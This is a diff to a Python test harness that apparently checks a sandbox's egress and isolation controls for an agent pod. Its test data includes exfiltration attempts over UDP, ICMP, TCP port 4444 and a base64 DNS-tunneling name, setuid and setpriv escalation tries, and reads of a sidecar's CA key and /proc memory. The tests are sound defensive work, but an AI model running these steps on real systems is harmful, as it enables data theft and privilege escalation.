@@ -4,7 +4,7 @@ import os
 from .. import config, paths
 from ..acting import arrivals, curl
 from ..cast import Cast
-from ..net import until
+from ..net import Failed, until
 from ..story import Story
 
 # One attempt each, by the plainest means there are.
@@ -13,8 +13,8 @@ UDP = "import socket; socket.socket(socket.{family}, socket.SOCK_DGRAM).sendto({
 PING = ("import socket; s = socket.socket(socket.{family}, socket.SOCK_DGRAM, socket.{protocol}); "
         "s.sendto({data!r}, ({address!r}, 0))")
 RAW = "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"
-UNIX = "import socket; socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect({path!r})"
-DNS_QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07outside\x07example\x00\x00\x01\x00\x01"
+DNS_QUERY = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+             b"\x06secret\x07outside\x07example\x00\x00\x01\x00\x01")
 ECHO4, ECHO6 = b"\x08\0\0\0\0\1\0\1secret", b"\x80\0\0\0\0\1\0\1secret"
 
 
@@ -27,13 +27,15 @@ def attempts(v4: str, v6: str) -> dict[str, str]:
         "udp6:53": UDP.format(family="AF_INET6", data=DNS_QUERY, address=v6, port=53),
         "icmp4": PING.format(family="AF_INET", protocol="IPPROTO_ICMP", data=ECHO4, address=v4),
         "icmp6": PING.format(family="AF_INET6", protocol="IPPROTO_ICMPV6", data=ECHO6, address=v6),
+        "tcp4:53": f"import socket; socket.create_connection(({v4!r}, 53), 5).sendall(b'secret')",
         "tcp4:4444": f"import socket; socket.create_connection(({v4!r}, 4444), 5).sendall(b'secret')",
         "tcp6:4444": f"import socket; socket.create_connection(({v6!r}, 4444), 5).sendall(b'secret')",
     }
 
 
-TITLES = {"udp4:443": "UDP 443, as QUIC", "udp6:443": "the same over IPv6", "udp4:53": "DNS to another resolver",
-          "udp6:53": "DNS to another over IPv6", "icmp4": "ICMP echo", "icmp6": "ICMPv6 echo",
+TITLES = {"udp4:443": "UDP 443, as QUIC", "udp6:443": "the same over IPv6",
+          "udp4:53": "DNS to another resolver", "udp6:53": "DNS to another over IPv6",
+          "tcp4:53": "DNS over TCP to another", "icmp4": "ICMP echo", "icmp6": "ICMPv6 echo",
           "tcp4:4444": "TCP to another port", "tcp6:4444": "TCP over IPv6"}
 
 
@@ -63,12 +65,14 @@ def network(cast: Cast, story: Story) -> None:
     try:
         until("everything arrives from a pod without Writ", all_of_it, 5)
         control = "all arrive"
-    except Exception:
-        control = "missing: " + ", ".join(sorted(set(tried) - set(noted(cast, thief.v4) + noted(cast, thief.v6))))
+    except Failed:
+        heard = set(noted(cast, thief.v4) + noted(cast, thief.v6))
+        control = "missing: " + ", ".join(sorted(set(tried) - heard))
     story.judge("from a pod without Writ (control)", "all arrive", control)
 
     for code in tried.values():
-        cast.pods["agent"].run(config.AGENT_UID, *paths.python(), "-c", code)
+        done = cast.pods["agent"].run(config.AGENT_UID, *paths.python(), "-c", code)
+        story.show(f'$ python -c "{code}"', last_line(done.stderr) or "(no error)")
     answer = curl(cast, story, "--globoff", f"http://{outside.v4}:4444/")
     story.judge("HTTP to an address outside", "403 unlisted-destination", answer.summary)
     answer = curl(cast, story, "--globoff", f"http://[{outside.v6}]:4444/", show=False)
@@ -93,6 +97,7 @@ def network(cast: Cast, story: Story) -> None:
 def names(cast: Cast, story: Story) -> None:
     tunnel = "c2VjcmV0LWRhdGE.tunnel.outside.example"
     done = cast.pods["agent"].run(config.AGENT_UID, "getent", "hosts", tunnel)
+    story.show(f"$ getent hosts {tunnel}", done.stdout or f"(exit {done.returncode})")
     story.judge("data in a DNS name", "no such name", "no such name" if done.returncode == 2
                 else f"getent exit {done.returncode} {done.stdout.strip()}")
 
@@ -101,6 +106,7 @@ def the_sidecars_uid(cast: Cast, story: Story) -> None:
     agent = cast.pods["agent"]
     uid = config.AGENT_SIDECAR
     done = agent.run(config.AGENT_UID, "setpriv", f"--reuid={uid}", "--clear-groups", "true")
+    story.show(f"$ setpriv --reuid={uid} --clear-groups true", done.stderr)
     story.judge("becoming the sidecar's uid", "not permitted",
                 "not permitted" if "not permitted" in done.stderr else done.stderr.strip() or "it worked")
     setuid = paths.STATE / "shared" / "setuid-curl"
@@ -110,22 +116,25 @@ def the_sidecars_uid(cast: Cast, story: Story) -> None:
         setuid.chmod(0o4755)
     done = agent.run(config.AGENT_UID, str(setuid), "-s", "-o", "/dev/null", "-w", "%{http_code}",
                      f"http://{cast.pods['outside'].v4}:4444/")
+    story.show(f"$ {setuid} http://{cast.pods['outside'].v4}:4444/   (owned by {uid}, setuid)", done.stdout)
     story.judge("a setuid program of the sidecar's uid", "403", done.stdout or f"exit {done.returncode}")
     done = agent.run(config.AGENT_UID, *paths.python(), "-c", RAW)
-    story.judge("a raw packet socket", "PermissionError", last_error(done.stderr))
+    story.show(f'$ python -c "{RAW}"', last_line(done.stderr))
+    story.judge("a raw packet socket", "PermissionError", last_line(done.stderr).split(":")[0])
 
 
 def the_sidecars_secrets(cast: Cast, story: Story) -> None:
     agent, pid = cast.pods["agent"], cast.sidecars["agent"].pid
     folder = paths.STATE / "agent"
     for name, path in {
-        "its record": next((folder / "record").glob("*.redb")),
-        "its interception CA's key": next(path for path in (folder / "ca").iterdir() if path.is_file()),
+        "its record": folder / "record/log.redb",
+        "its interception CA's key": next((folder / "ca").glob("*.pem")),
         "its configuration": folder / "config/sidecar.yaml",
         "its environment": f"/proc/{pid}/environ",
         "its memory": f"/proc/{pid}/mem",
     }.items():
         done = agent.run(config.AGENT_UID, "head", "-c1", str(path))
+        story.show(f"$ head -c1 {path}", done.stderr or done.stdout)
         story.judge(f"reading {name}", "Permission denied",
                     "Permission denied" if "Permission denied" in done.stderr else "read")
     done = agent.run(config.AGENT_UID, "kill", "-STOP", str(pid))
@@ -141,6 +150,5 @@ def the_sidecars_secrets(cast: Cast, story: Story) -> None:
                 + ("none given" if "no usable SVID" in done.stderr else f"exit {done.returncode}"))
 
 
-def last_error(text: str) -> str:
-    lines = text.strip().splitlines() or ["no error"]
-    return lines[-1].split(":")[0]
+def last_line(text: str) -> str:
+    return (text.strip().splitlines() or [""])[-1]
